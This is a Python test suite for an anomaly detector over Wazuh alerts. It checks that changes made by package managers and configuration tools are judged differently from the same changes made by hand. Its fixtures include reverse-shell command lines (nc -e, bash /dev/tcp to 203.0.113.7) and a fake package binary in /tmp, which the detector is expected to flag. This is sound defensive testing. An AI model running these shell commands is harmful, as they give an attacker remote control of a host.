"""Change channels (mimizuku.engine.lineage): what the fleet's package manager and configuration
management change is judged by how and where, not by what; what else changes, as before."""
from __future__ import annotations

import copy
import datetime as dt
import json
import os

import alert_factory as F
import numpy as np
import pytest

from mimizuku import Mimizuku
from mimizuku.engine.detectors.base import Detector
from mimizuku.engine.detectors.commands import CommandDetector
from mimizuku.engine.detectors.context import ContextDetector
from mimizuku.engine.detectors.files import FileIntegrityDetector
from mimizuku.engine.flag_rule import record_flagged
from mimizuku.engine.lineage import RESTART_WINDOW, ProcessLineage, change_channel

H = dt.timedelta(hours=1)
M = dt.timedelta(minutes=1)
S = dt.timedelta(seconds=1)
HOSTS = (("web-01", "001"), ("web-02", "002"), ("db-01", "003"))
PAYLOAD = "/home/alice/.ansible/tmp/ansible-tmp-17373.96-4950-3233/AnsiballZ_{}.py"


def cmd(t, argv, *, pid, ppid, user="root", uid="0", agent="web-01", agent_id="001"):
    a = F.command(t, argv, user=user, agent=agent, agent_id=agent_id)
    a["data"]["audit"].update({"pid": str(pid), "ppid": str(ppid), "uid": uid, "euid": "0"})
    return a


def changed(t, path, *, process, pid, ppid, event="modified", agent="web-01", agent_id="001"):
    a = F.fim(t, path, event=event, user="root", process=process, agent=agent, agent_id=agent_id)
    a["syscheck"]["audit"]["process"].update({"id": str(pid), "ppid": str(ppid)})
    return a


def scanned(t, path, *, event="added", agent="web-01", agent_id="001"):
    """A change found by a scheduled scan: no who-data, no process."""
    a = F.fim(t, path, event=event, agent=agent, agent_id=agent_id)
    a["syscheck"]["mode"] = "scheduled"
    del a["syscheck"]["audit"]
    a["syscheck"]["uname_after"], a["syscheck"]["uid_after"] = "root", "0"
    return a


def ansible_run(t, module, *, pid, agent, agent_id, children=()):
    """ansible's payload run as root through sudo, and what it starts (argv lists)."""
    out = [cmd(t, ["/usr/bin/python3", PAYLOAD.format(module)], pid=pid, ppid=pid - 1, agent=agent,
               agent_id=agent_id)]
    for i, argv in enumerate(children, 1):
        out.append(cmd(t + i * S, argv, pid=pid + i, ppid=pid, agent=agent, agent_id=agent_id))
    return out


# --- recognising a channel's head ------------------------------------------------------------

@pytest.mark.parametrize("argv,channel", [
    (["/usr/bin/apt-get", "-y", "upgrade"], "package:apt-get"),
    (["/usr/bin/dpkg", "--configure", "-a"], "package:dpkg"),
    (["/usr/bin/python3", "/usr/bin/unattended-upgrade"], "package:unattended-upgrade"),
    (["/usr/bin/python3", PAYLOAD.format("user")], "config:ansible"),
    (["/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/puppet", "agent"], "config:puppet"),
    (["salt-call", "state.apply"], "config:salt"),
    (["/usr/bin/python3", "/tmp/x.py"], None),
    (["bash", "-i"], None),
    (["/usr/sbin/useradd", "-m", "erin"], None),
    ([], None),
])
def test_change_channel_heads(argv, channel):
    assert change_channel(argv) == channel


# --- following the process tree ------------------------------------------------------------

def test_descendants_and_their_file_changes_inherit_the_channel():
    lin = ProcessLineage(routine=[("web-01", "config:ansible")])
    t = F.BASE
    run = ansible_run(t + H, "user", pid=200, agent="web-01", agent_id="001",
                      children=[["/usr/sbin/useradd", "-m", "erin"]])
    # the head is judged as any command; what it runs is the channel's
    assert [lin.channel_of(a) for a in run] == ["", "config:ansible"]
    # the file useradd wrote (its pid) and one the payload wrote itself (its pid)
    assert lin.channel_of(changed(t + H + 2 * S, "/etc/passwd", process="/usr/sbin/useradd", pid=201,
                                  ppid=200)) == "config:ansible"
    assert lin.channel_of(changed(t + H + 2 * S, "/home/erin/.ssh/authorized_keys",
                                  process="/usr/bin/python3.8", pid=200, ppid=199)) == "config:ansible"
    # the same useradd from an interactive shell, and the same pid on another agent: no channel
    assert lin.channel_of(cmd(t + H, ["/usr/sbin/useradd", "-o", "-u", "0", "x"], pid=301, ppid=300)) == ""
    assert lin.channel_of(changed(t + H, "/etc/passwd", process="/usr/sbin/useradd", pid=201, ppid=200,
                                  agent="db-01", agent_id="003")) == ""


def test_a_channel_vouches_only_where_it_is_routine():
    # learnt: the head ran twice on web-01, once on web-02, never on db-01
    learning = ProcessLineage(min_heads=2)
    for i, (host, hid) in enumerate((("web-01", "001"), ("web-01", "001"), ("web-02", "002"))):
        for a in ansible_run(F.BASE + i * H, "setup", pid=100 + 10 * i, agent=host, agent_id=hid):
            learning.observe(a)
    assert learning.learnt() == {("web-01", "config:ansible")}
    lin = ProcessLineage(routine=learning.learnt())
    for host, hid, want in (("web-01", "001", "config:ansible"), ("web-02", "002", ""), ("db-01", "003", "")):
        run = ansible_run(F.BASE + 5 * H, "user", pid=200, agent=host, agent_id=hid,
                          children=[["/usr/sbin/useradd", "-m", "erin"]])
        assert [lin.channel_of(a) for a in run] == ["", want]


def test_a_reused_pid_is_not_a_descendant():
    lin = ProcessLineage(routine=[("web-01", "package")], max_age=600)
    lin.observe(cmd(F.BASE, ["/usr/bin/apt-get", "-y", "upgrade"], pid=50, ppid=1))
    assert lin.channel_of(cmd(F.BASE + 5 * M, ["/usr/sbin/ldconfig"], pid=51, ppid=50)) == "package:apt-get"
    assert lin.channel_of(cmd(F.BASE + 2 * H, ["/bin/sh", "-c", "nc -e /bin/sh 1.2.3.4 9"], pid=52, ppid=50)) == ""


def test_scan_time_changes_in_package_trees_take_the_package_run_before_them():
    lin = ProcessLineage(routine=[("web-01", "package")], scan_window=24 * 3600)
    lin.observe(cmd(F.BASE, ["/usr/bin/apt-get", "-y", "dist-upgrade"], pid=50, ppid=1))
    assert lin.channel_of(scanned(F.BASE + 6 * H, "/boot/vmlinuz-5.4.0-171-generic")) == "package:apt-get~scan"
    assert lin.channel_of(scanned(F.BASE + 6 * H, "/usr/bin/ssh")) == "package:apt-get~scan"
    # not a tree only packages write to, too late, or another agent
    assert lin.channel_of(scanned(F.BASE + 6 * H, "/etc/sudoers")) == ""
    assert lin.channel_of(scanned(F.BASE + 30 * H, "/usr/bin/ssh")) == ""
    assert lin.channel_of(scanned(F.BASE + H, "/usr/bin/ssh", agent="db-01", agent_id="003")) == ""


def test_dpkg_log_rules_are_package_runs_without_auditd():
    learning = ProcessLineage()
    for i in range(2):
        learning.observe(F.event(F.BASE + i * S, "2902", level=7, desc="New dpkg (Debian Package) installed.",
                                 groups=["syslog", "dpkg", "config_changed"]))
    assert learning.learnt() == {("web-01", "package")}
    lin = ProcessLineage(routine=learning.learnt())
    lin.observe(F.event(F.BASE + 2 * H, "2902", level=7, desc="New dpkg (Debian Package) installed.",
                        groups=["syslog", "dpkg", "config_changed"]))
    assert lin.channel_of(scanned(F.BASE + 3 * H, "/usr/lib/x86_64-linux-gnu/libc.so.6")) == "package:dpkg~scan"


def test_the_process_map_is_bounded():
    lin = ProcessLineage(routine=[("web-01", "package")], max_entries=64)
    lin.observe(cmd(F.BASE, ["/usr/bin/apt-get", "upgrade"], pid=1, ppid=0))
    for pid in range(2, 2000):   # a long chain of package descendants
        lin.observe(cmd(F.BASE + pid * S, ["/bin/true"], pid=pid, ppid=pid - 1))
    assert lin.tracked_processes() <= 64
    assert lin.channel_of(cmd(F.BASE + 2000 * S, ["/bin/true"], pid=2000, ppid=1999)) == "package:apt-get"


# --- what the detectors make of it ------------------------------------------------------------

def _fleet_with_ansible(days=4):
    """The factory's fleet, plus an ansible run a day on every host that changes nothing, shell
    histories written in homes, and an admin editing a config file under /etc on one host."""
    out = list(F.normal_fleet(days=days))
    pid = 10_000
    for d in range(days):
        for host, hid in HOSTS:
            pid += 10
            day = F.BASE + dt.timedelta(days=d)
            out += ansible_run(day + 11 * H, "setup", pid=pid, agent=host, agent_id=hid)
            out.append(changed(day + 12 * H, "/home/alice/.bash_history", process="/usr/bin/bash", pid=pid + 5,
                               ppid=pid + 4, agent=host, agent_id=hid))
        out.append(changed(F.BASE + dt.timedelta(days=d, hours=13), "/etc/nginx/nginx.conf",
                           process="/usr/bin/vim.basic", pid=pid + 7, ppid=pid + 6, agent="web-02",
                           agent_id="002"))
    out.sort(key=lambda a: a["timestamp"])
    return out


def _onboarding(t, host, hid, pid, *, through_ansible=True):
    """A new admin account: useradd and the files it writes, from a playbook or from a shell."""
    if through_ansible:
        head = ansible_run(t, "user", pid=pid, agent=host, agent_id=hid)
    else:
        head = [cmd(t, ["-bash"], pid=pid, ppid=pid - 1, agent=host, agent_id=hid)]
    out = head + [cmd(t + S, ["/usr/sbin/useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "erin"],
                      pid=pid + 1, ppid=pid, agent=host, agent_id=hid)]
    for i, path in enumerate(("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")):
        out.append(changed(t + (2 + i) * S, path, process="/usr/sbin/useradd", pid=pid + 1, ppid=pid,
                           agent=host, agent_id=hid))
    out.append(changed(t + 7 * S, "/home/erin/.bashrc", process="/usr/sbin/useradd", pid=pid + 1, ppid=pid,
                       event="added", agent=host, agent_id=hid))
    return out


@pytest.fixture(scope="module")
def model():
    return Mimizuku(detectors=("files", "commands")).fit(_fleet_with_ansible())


def test_a_playbooks_changes_are_not_anomalies_the_same_from_a_shell_are(model):
    t = F.BASE + dt.timedelta(days=6, hours=10)
    playbook = _onboarding(t, "web-01", "001", 50_000)
    by_hand = _onboarding(t + H, "db-01", "003", 60_000, through_ansible=False)
    recs = {r["id"]: r for r in model.score_records(playbook + by_hand)}
    changes = [a for a in playbook if "syscheck" in a or "useradd" in json.dumps(a)]
    assert len(changes) == 6 and not any(record_flagged(recs[a["id"]]) for a in changes)
    # by hand: the useradd is flagged (raised, or told within the story the shell before it
    # opened: mimizuku.engine.stories), and every file change scores above the playbook's
    same = [a for a in by_hand if "syscheck" in a or "useradd" in json.dumps(a)]
    assert record_flagged(recs[same[0]["id"]]) and "useradd" in " ".join(recs[same[0]["id"]]["reasons"])
    for mine, theirs in zip(changes[1:], same[1:]):
        assert recs[theirs["id"]]["score"] > recs[mine["id"]]["score"] + 0.2


def test_without_lineage_the_playbooks_changes_score_as_any_change(model):
    # the same training and test, detectors without the model's process lineage: the mechanism
    # is what makes the difference above
    alerts = _fleet_with_ansible()
    files, commands = FileIntegrityDetector(), CommandDetector()
    files.fit([a for a in alerts if files.applies(a)])
    commands.fit([a for a in alerts if commands.applies(a)])
    playbook = _onboarding(F.BASE + dt.timedelta(days=6, hours=10), "web-01", "001", 50_000)
    useradd = [a for a in playbook if "useradd" in json.dumps(a) and "data" in a]
    assert commands.predict(useradd).tolist() == [1]
    changes = [a for a in playbook if files.applies(a)]
    with_lineage = {r["id"]: r["score"] for r in model.score_records(playbook)}
    without = files.score_samples(changes)
    assert all(s > with_lineage[a["id"]] + 0.2 for a, s in zip(changes, without))


def test_a_channels_shell_constructs_and_new_trees_still_count(model):
    t = F.BASE + dt.timedelta(days=6, hours=10)
    run = ansible_run(t, "shell", pid=70_000, agent="web-02", agent_id="002",
                      children=[["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]])
    run.append(changed(t + 5 * S, "/root/.ssh/authorized_keys", process="/usr/bin/python3.8", pid=70_000,
                       ppid=69_999, agent="web-02", agent_id="002"))
    run.append(changed(t + 6 * S, "/etc/passwd", process="/usr/sbin/useradd", pid=70_002, ppid=70_000,
                       agent="web-02", agent_id="002"))
    recs = model.score_records(run)
    assert recs[1]["anomaly"] and any("/dev/tcp" in x or ">&" in x for x in recs[1]["reasons"])
    # where nothing in the fleet ever changes (/root/.ssh) is news; where it does (/etc) is not
    files = model.detectors_["files"]
    assert files.channel(files.key(run[2])) == "config:ansible"
    assert recs[2]["score"] > recs[3]["score"] + 0.2


def test_channels_survive_save_and_load(model, tmp_path):
    assert ("web-01", "config:ansible") in set(model.change_channels_)
    assert ("web-01", "package") in set(model.change_channels_)
    out = tmp_path / "m"
    model.save_model(out)
    loaded = Mimizuku.load_model(out)
    assert loaded.change_channels_ == model.change_channels_
    playbook = _onboarding(F.BASE + dt.timedelta(days=6, hours=10), "web-01", "001", 50_000)
    a = [r["score"] for r in model.score_records(playbook)]
    b = [r["score"] for r in loaded.score_records(playbook)]
    assert np.allclose(a, b)
    assert not os.path.exists(out / "lineage")


def _stream_keys(model, alerts):
    """The files and commands keys of alerts read as one stream (what scoring computes)."""
    model.lineage_.start_stream()
    dets = [model.detectors_["files"], model.detectors_["commands"]]
    for d in dets:
        d.start_stream()
    out = []
    for a in alerts:
        model.lineage_.annotate_one(a)
        out.append(next((d.key(a) for d in dets if d.applies(a)), None))
    model.lineage_.forget_batch()
    return out


def test_a_hand_made_copy_of_a_rollout_is_not_part_of_its_wave(model):
    # a playbook writes where nothing in the fleet ever changed (new even for a channel) on two
    # hosts; someone writes the same file by hand on a third within minutes
    t = F.BASE + dt.timedelta(days=6, hours=10)

    def write(host, hid, pid, at, through_ansible=True):
        head = (ansible_run(at, "copy", pid=pid, agent=host, agent_id=hid) if through_ansible
                else [cmd(at, ["-bash"], pid=pid, ppid=pid - 1, agent=host, agent_id=hid)])
        return head + [changed(at + S, "/srv/payments/keys.json", process="/usr/bin/python3.8", pid=pid,
                               ppid=pid - 1, event="added", agent=host, agent_id=hid)]

    alerts = (write("web-01", "001", 80_000, t) + write("web-02", "002", 85_000, t + 5 * M)
              + write("db-01", "003", 90_000, t + 10 * M, through_ansible=False))
    keys = _stream_keys(model, alerts)
    files_wave = [k[7] for k, a in zip(keys, alerts) if "syscheck" in a]
    assert files_wave == [0, 1, 0]    # one wave through ansible; the copy by hand is not part of it


def test_a_hand_made_copy_of_a_channels_command_is_not_part_of_its_wave(model):
    t = F.BASE + dt.timedelta(days=6, hours=10)
    how = ["/bin/sh", "-c", "curl -s https://repo.example/key.asc | gpg --dearmor"]
    alerts = (ansible_run(t, "shell", pid=80_000, agent="web-01", agent_id="001", children=[how])
              + ansible_run(t + 5 * M, "shell", pid=85_000, agent="web-02", agent_id="002", children=[how])
              + [cmd(t + 10 * M, how, pid=90_001, ppid=90_000, agent="db-01", agent_id="003")])
    keys = _stream_keys(model, alerts)
    waves = [k[6] for k, a in zip(keys, alerts) if "gpg" in json.dumps(a)]
    assert waves == [0, 1, 0]    # a pipe and a URL are new even for a channel: one wave through it


def test_scan_time_provenance_is_judged_when_scoring_but_not_learnt():
    # a kernel upgrade a day: the scan that follows finds /boot changed. Training must not
    # depend on the day-long look-back (partitions of a training stream start without it)
    alerts = list(F.normal_fleet(days=3))
    for d in range(3):
        day = F.BASE + dt.timedelta(days=d, hours=5)
        alerts.append(cmd(day, ["/usr/bin/apt-get", "-y", "dist-upgrade"], pid=900 + d, ppid=1))
        alerts.append(scanned(day + 6 * H, f"/usr/lib/modules/5.4.0-{d}-generic/modules.dep"))
    alerts.sort(key=lambda a: a["timestamp"])
    model = Mimizuku(detectors=("files", "commands")).fit(alerts)
    files = model.detectors_["files"]
    assert not any(k[6].endswith("~scan") for k in files.ref_keys_)
    day = F.BASE + dt.timedelta(days=5, hours=5)
    test = [cmd(day, ["/usr/bin/apt-get", "-y", "dist-upgrade"], pid=990, ppid=1),
            scanned(day + 6 * H, "/boot/vmlinuz-5.4.0-171-generic"),
            scanned(day + 6 * H, "/boot/vmlinuz-5.4.0-171-generic", agent="web-02", agent_id="002")]
    recs = model.score_records(test)
    assert files.channel(files.key(test[1])).endswith("~scan")
    # after the upgrade: the package tree is where packages write; on web-02 (no upgrade): news
    assert not recs[1]["anomaly"] and recs[2]["score"] > recs[1]["score"] + 0.2



def test_a_model_that_travels_pickled_or_copied_still_follows_channels(model):
    # the nightly job ships the model in use to Dask workers (pickled) and gives each thread its
    # own copy (copy.copy of the model and of each detector)
    import copy
    import pickle

    playbook = _onboarding(F.BASE + dt.timedelta(days=6, hours=10), "web-01", "001", 50_000)
    want = [r["score"] for r in model.score_records(playbook)]
    travelled = pickle.loads(pickle.dumps(model))
    copied = copy.copy(model)
    copied.detectors_ = {n: copy.copy(d) for n, d in model.detectors_.items()}
    for other in (travelled, copied):
        assert [r["score"] for r in other.score_records(playbook)] == want
        assert other.detectors_["files"].lineage is other.detectors_["commands"].lineage


def test_a_channels_head_is_judged_as_any_command_but_not_when_a_channel_started_it():
    lin = ProcessLineage(routine=[("web-01", "config:ansible"), ("web-01", "package")])
    # a payload started by hand from /tmp: not vouched for by the channel it would start
    assert lin.channel_of(cmd(F.BASE, ["/usr/bin/python3", "/tmp/AnsiballZ_x.py"], pid=10, ppid=9)) == ""
    # apt starting dpkg: dpkg is apt's
    lin.observe(cmd(F.BASE, ["/usr/bin/apt-get", "-y", "upgrade"], pid=20, ppid=1))
    assert lin.channel_of(cmd(F.BASE + S, ["/usr/bin/dpkg", "--configure", "-a"], pid=21, ppid=20)) == \
        "package:apt-get"



def test_a_package_tool_outside_the_system_program_directories_is_no_channel():
    lin = ProcessLineage(routine=[("web-01", "package")])
    assert change_channel(["/tmp/.x/apt-get", "upgrade"]) is None
    fake = cmd(F.BASE, ["/tmp/.x/apt-get", "upgrade"], pid=30, ppid=1)
    fake["data"]["audit"]["exe"] = "/tmp/.x/apt-get"
    lin.observe(fake)
    assert lin.channel_of(cmd(F.BASE + S, ["/usr/sbin/useradd", "x"], pid=31, ppid=30)) == ""
    assert lin.channel_of(changed(F.BASE + S, "/etc/shadow", process="/dev/shm/dpkg", pid=40, ppid=1)) == ""
    assert lin.channel_of(changed(F.BASE + S, "/usr/bin/ls", process="/usr/bin/dpkg", pid=41, ppid=1)) == \
        "package:dpkg"


def test_a_reloaded_model_continues_the_stream_of_processes():
    old = ProcessLineage(routine=[("web-01", "package")])
    old.observe(cmd(F.BASE, ["/usr/bin/apt-get", "-y", "upgrade"], pid=50, ppid=1))
    new = ProcessLineage(routine=[("web-01", "package")])
    new.take_stream(old)
    assert new.channel_of(cmd(F.BASE + S, ["/usr/sbin/ldconfig"], pid=51, ppid=50)) == "package:apt-get"
    assert new.channel_of(scanned(F.BASE + H, "/usr/bin/ssh")) == "package:apt-get~scan"



# --- what the package manager's own lines and restarts are (the context detector defers) -------

DPKG = ["syslog", "dpkg", "config_changed"]
LIFECYCLE = ["ossec", "pci_dss_10.6.1"]


def test_dpkg_lines_and_the_agents_restart_after_a_package_run_are_that_run():
    """A dpkg line is the package channel's own line; the agent stopping and starting within
    ``RESTART_WINDOW`` of a package run on it (upgrading wazuh-agent restarts it) is that run's;
    later, on another agent, or a rootcheck finding or a shrinking log (Wazuh's own alerts too)
    is not."""
    lin = ProcessLineage(routine=[("web-01", "package")])
    line = F.event(F.BASE, "2902", level=7, desc="New dpkg (Debian Package) installed.", groups=DPKG)
    assert lin.channel_of(line) == "package:dpkg"
    assert lin.channel_of(F.event(F.BASE, "2902", level=7, groups=DPKG, agent="db-01", agent_id="003")) == ""
    near = F.BASE + (RESTART_WINDOW - 1) * S
    assert lin.channel_of(F.event(near, "506", desc="Wazuh agent stopped.", groups=LIFECYCLE)) == "package:dpkg"
    assert lin.channel_of(F.event(F.BASE + (RESTART_WINDOW + 1) * S, "503", groups=LIFECYCLE)) == ""
    assert lin.channel_of(F.event(near, "510", groups=["ossec", "rootcheck"])) == ""
    assert lin.channel_of(F.event(near, "592", groups=["ossec", "attacks"])) == ""
    lin.observe(cmd(F.BASE + H, ["/usr/bin/apt-get", "-y", "upgrade"], pid=70, ppid=1))
    assert lin.channel_of(F.event(F.BASE + H + 5 * S, "503", groups=LIFECYCLE)) == "package:apt-get"


def _fleet_with_dpkg_lines(days=4):
    """The factory's fleet, whose nightly ``apt-get upgrade`` on every host also writes dpkg's
    "installed" line (rule 2902)."""
    out = list(F.normal_fleet(days=days))
    for d in range(days):
        for host, hid in HOSTS:
            out.append(F.event(F.BASE + dt.timedelta(days=d, hours=3, minutes=1, seconds=30), "2902", level=7,
                               desc="New dpkg (Debian Package) installed.", groups=DPKG, agent=host, agent_id=hid))
    out.sort(key=lambda a: a["timestamp"])
    return out


@pytest.fixture(scope="module")
def context_model():
    return Mimizuku(detectors=("context",)).fit(_fleet_with_dpkg_lines())


def _judge_upgrade(model, agent, agent_id):
    """A run on ``agent`` the night after training: apt-get, then dpkg lines the model never saw
    (half-configured packages, rule 2904) and the agent restarting (its own package upgraded)."""
    t = F.BASE + dt.timedelta(days=6, hours=3)
    run = [F.command(t, ["/usr/bin/apt-get", "-y", "upgrade"], user="root", agent=agent, agent_id=agent_id)]
    run += [F.event(t + (2 + i) * S, "2904", level=7, desc="Dpkg (Debian Package) half configured.",
                    groups=DPKG, agent=agent, agent_id=agent_id) for i in range(2)]
    run += [F.event(t + 20 * S, "506", desc="Wazuh agent stopped.", groups=LIFECYCLE, agent=agent, agent_id=agent_id),
            F.event(t + 30 * S, "503", desc="Wazuh agent started.", groups=LIFECYCLE, agent=agent, agent_id=agent_id)]
    m = copy.copy(model)
    return {r["rule"]["id"]: r for r in m.iter_records(run) if r["rule"]["id"] != "80792"}


def test_the_context_detector_leaves_the_routine_package_managers_lines_to_the_others(context_model, monkeypatch):
    """Where apt runs routinely, what it logs and the agent's restart it causes are new by
    design: scored, but the context detector does not flag them; where no package tool ever ran,
    the same lines are news; switched off, they are flagged everywhere."""
    routine = _judge_upgrade(context_model, "web-01", "001")
    assert set(routine) == {"2904", "506", "503"}
    assert all(r["score"] >= r["threshold"] and not record_flagged(r) for r in routine.values())
    elsewhere = _judge_upgrade(context_model, "mail-01", "009")   # no package run in its training
    assert all(record_flagged(r) for r in elsewhere.values())
    monkeypatch.setattr(ContextDetector, "defers", Detector.defers)
    off = _judge_upgrade(context_model, "web-01", "001")
    assert all(record_flagged(r) for r in off.values())


def test_a_deferred_record_says_why_and_a_threshold_override_keeps_it_unflagged(context_model):
    """The record of a dpkg line the context detector left to the others carries the reason
    (as an ignore list's), so the integration's policy, judging records again with a lower
    threshold, does not raise it."""
    from mimizuku.engine.policy import SendPolicy

    rec = _judge_upgrade(context_model, "web-01", "001")["2904"]
    assert rec["detector"] == "context" and not rec["anomaly"]
    assert any(r.startswith("ignored: the context detector leaves it to the others: made by the package manager")
               for r in rec["reasons"])

    class Options:
        send, detectors, min_severity = "anomalies", None, "low"
        thresholds = {"context": 0.01}

    assert SendPolicy(Options()).send(rec) is None
